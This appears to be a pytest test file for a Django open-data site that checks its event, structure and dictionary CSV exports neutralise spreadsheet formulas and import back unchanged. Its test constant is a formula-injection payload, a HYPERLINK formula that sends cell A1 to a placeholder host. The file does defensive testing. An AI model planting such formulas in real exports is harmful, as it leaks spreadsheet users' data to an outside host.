"""Events as open data, and no CSV the site writes can run a formula in a spreadsheet."""

import csv
import io
from datetime import datetime, timedelta

import pytest
from django.utils import timezone

from boussole.io.exporter import export_csv
from boussole.io.formats import read_csv
from boussole.models import Event, Structure
from portail.csvsafe import neutralise, restore

from .conftest import make_term

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'


def parse(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_restored(start):
    value = f"{start}SOMME(A1:A9)"
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value
    assert neutralise("Tablette") == "Tablette" and neutralise(-1.5) == -1.5


@pytest.fixture
def structure(db):
    return Structure.objects.create(
        source="test", source_id="s1", nom="Centre social Lumière", code_insee="59350", commune="Lille", live=True
    )


@pytest.fixture
def events(structure):
    start = timezone.make_aware(datetime(2027, 3, 10, 14, 0))
    shown = Event.objects.create(
        title=FORMULA,
        description="-- Atelier écrans en famille",
        structure=structure,
        start=start,
        end=start + timedelta(hours=2),
        publics=["familles"],
        registration_phone="+33 3 20 00 00 00",
        live=True,
    )
    Event.objects.create(title="Brouillon", description="Pas encore publié.", start=start, live=False)
    return shown


def test_events_json_lists_the_published_events(client, events):
    data = client.get("/boussole/donnees/evenements.json").json()
    assert [event["titre"] for event in data["evenements"]] == [FORMULA]  # JSON keeps the text as it is
    event = data["evenements"][0]
    assert event["debut"] == "2027-03-10T14:00:00+01:00" and event["fin"] == "2027-03-10T16:00:00+01:00"
    assert event["structure"] == "Centre social Lumière" and event["publics"] == ["familles"]
    assert event["url"].endswith(f"/boussole/agenda/{events.slug}/")
    assert data["licence"]


def test_events_csv_neutralises_formulas(client, events):
    rows = parse(client.get("/boussole/donnees/evenements.csv"))
    assert len(rows) == 1
    assert rows[0]["titre"] == "'" + FORMULA
    assert rows[0]["description"] == "'-- Atelier écrans en famille"
    assert rows[0]["telephone_inscription"] == "'+33 3 20 00 00 00"
    assert rows[0]["gratuit"] == "oui" and rows[0]["commune"] == "Lille"


def test_open_data_page_links_the_event_exports(client, db):
    from portail.demo import ensure_home_page

    ensure_home_page()
    page = client.get("/boussole/donnees/").content.decode()
    assert "/boussole/donnees/evenements.json" in page and "/boussole/donnees/evenements.csv" in page


def test_structures_csv_neutralises_and_imports_back_unchanged(client, structure):
    Structure.objects.filter(pk=structure.pk).update(nom=FORMULA, telephone="+33 3 20 11 22 33")
    text = export_csv("structure", public_only=False)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["nom"] == "'" + FORMULA and row["telephone"] == "'+33 3 20 11 22 33"
    records, _services = read_csv(text)
    assert records[0][1]["nom"] == FORMULA and records[0][1]["telephone"] == "+33 3 20 11 22 33"


def test_dictionary_csv_neutralises_a_definition_written_as_a_formula(client, db):
    term = make_term("Tableur")
    term.short_definition = FORMULA
    term.save_revision().publish()
    rows = parse(client.get("/dictionnaire/export/dictionnaire.csv"))
    row = next(row for row in rows if row["mot"] == "Tableur")
    assert row["definition_courte"] == "'" + FORMULA
